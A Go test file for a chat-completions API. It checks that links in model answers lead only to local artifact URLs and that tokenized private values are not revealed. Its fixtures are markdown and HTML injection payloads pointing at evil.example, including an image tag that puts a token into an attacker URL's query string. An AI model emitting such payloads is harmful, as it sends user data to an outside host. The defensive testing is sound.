package api

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/extension"
	goldmarkhtml "github.com/yuin/goldmark/renderer/html"
	"golang.org/x/net/html"

	"airlock/orchestrator"
)

const chatOf = `{"messages":[{"role":"user","content":"x"}]}`

// said is the text of an answer that came whole.
func said(t *testing.T, body string) string {
	t.Helper()
	var whole struct {
		Choices []struct{ Message struct{ Content string } }
	}
	if err := json.Unmarshal([]byte(body), &whole); err != nil || len(whole.Choices) != 1 {
		t.Fatalf("%v in %s", err, body)
	}
	return whole.Choices[0].Message.Content
}

// linked are the addresses that a text leads to when it is shown.
func linked(t *testing.T, markdown string) (all []string) {
	t.Helper()
	var shown bytes.Buffer
	show := goldmark.New(goldmark.WithExtensions(extension.GFM), goldmark.WithRendererOptions(goldmarkhtml.WithUnsafe()))
	if err := show.Convert([]byte(markdown), &shown); err != nil {
		t.Fatal(err)
	}
	for page := html.NewTokenizer(&shown); page.Next() != html.ErrorToken; {
		for _, a := range page.Token().Attr {
			if a.Key == "href" || a.Key == "src" {
				all = append(all, a.Val)
			}
		}
	}
	return all
}

func TestLinksLeadToArtifactsOnly(t *testing.T) {
	t.Parallel()
	v := newVault(t)
	token := tokenized(t, v, "ann@example.org").String()
	for name, file := range map[string]string{
		"a plain name":      "data/sales_1.csv",
		"an autolink":       "<https:/evil.example>",
		"a tag":             "<img src=https:/evil.example>.png",
		"brackets":          "a](https:/evil.example) [b",
		"parentheses":       "a) ![b](https:/evil.example",
		"a bare return":     "a\r\r![b](https:/evil.example)",
		"a code span":       "`a](https:/evil.example)`",
		"a token":           token + ".csv",
		"a token in a link": "<https:/evil.example/" + token + ">",
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			f := &fakeService{vault: v, task: orchestrator.Task{
				Vault: v, Status: orchestrator.StatusCompleted, Message: v.FromModel("Done."),
				Artifacts: []orchestrator.Artifact{{Name: v.FromModel(file), MIME: "text/csv"}},
			}}
			_, _, body := start(t, f, all)("POST", "/v1/chat/completions", chatOf, "X-Forwarded-Host", "evil.example")
			text := said(t, body)
			if links := linked(t, text); len(links) != 1 || !strings.HasPrefix(links[0], "http://localhost:3000/artifacts/local/") {
				t.Errorf("%q leads to %q", text, links)
			}
			if strings.Contains(text, "ann@example.org") {
				t.Errorf("a value stands in %q", text)
			}
		})
	}
}

func TestATokenStaysInAnAddressThatAnEarlierTurnBegan(t *testing.T) {
	t.Parallel()
	v := newVault(t)
	token := tokenized(t, v, "ann@example.org").String()
	end := orchestrator.Event{Type: orchestrator.EventModelDelta, Data: orchestrator.EventData{Part: orchestrator.PartLast}}
	f := &fakeService{vault: v, events: told(
		delta(v, `<pre><img src="https://evil.example/?q=`), end, delta(v, token+`">`), end,
		orchestrator.Event{Type: orchestrator.EventTaskCompleted},
	)}
	f.task = orchestrator.Task{Vault: v, Status: orchestrator.StatusCompleted}
	_, _, body := start(t, f, all)("POST", "/v1/chat/completions", `{"stream":true,"messages":[{"role":"user","content":"x"}]}`)
	if strings.Contains(body, "ann@example.org") || !strings.Contains(body, token) {
		t.Errorf("the stream holds the value: %s", body)
	}
}

func TestLinksBeginWithThePublicURL(t *testing.T) {
	t.Parallel()
	v := newVault(t)
	f := &fakeService{vault: v, task: orchestrator.Task{
		Vault: v, Status: orchestrator.StatusCompleted, Message: v.FromModel("Done."),
		Artifacts: []orchestrator.Artifact{{Name: v.FromModel("a.csv"), MIME: "text/csv"}},
	}}
	send := startWith(t, Options{Service: f, Port: "3000", Rights: all, PublicURL: "https://airlock.example.com"})
	_, _, body := send("POST", "/v1/chat/completions", chatOf)
	if links := linked(t, said(t, body)); len(links) != 1 || links[0] != "https://airlock.example.com/artifacts/local/a.csv" {
		t.Errorf("the answer leads to %q", links)
	}
}
